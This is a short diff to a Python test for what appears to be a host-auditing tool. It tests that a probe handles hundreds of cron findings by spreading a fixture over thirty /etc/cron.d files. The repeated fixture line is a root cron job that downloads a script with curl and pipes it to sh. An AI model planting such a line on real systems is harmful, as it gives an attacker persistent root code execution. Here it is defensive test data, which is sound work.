@@ -110,7 +110,8 @@ def test_who_does_not_say_is_not_root() -> None:
 def test_a_host_with_very_many_findings_is_not_cut_off(tmp_path: Path) -> None:
     """The probe lists some hundreds, says that there are more, and still ends in order."""
     line = "* * * * * root curl -s http://203.0.113.9/i.sh | sh\n"
-    case = pages.Case("many", [pages.Fence("file", "/etc/crontab", line * 600)])
+    jobs = [pages.Fence("file", f"/etc/cron.d/job{number}", line * 20) for number in range(30)]
+    case = pages.Case("many", jobs)
     output = build.probed(tmp_path / "root", case)
     reading = records.read(build.heard(output), NONCE, RULES)
     assert reading is not None
